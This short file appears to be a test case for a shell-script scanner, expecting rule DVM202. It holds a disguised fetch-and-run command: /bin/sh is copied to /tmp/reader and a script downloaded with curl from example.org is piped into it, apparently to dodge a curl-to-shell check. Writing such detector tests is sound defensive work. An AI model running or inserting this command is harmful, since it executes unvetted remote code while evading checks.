# expect: DVM202
cp /bin/sh /tmp/reader
curl -fsSL https://example.org/i.sh | /tmp/reader
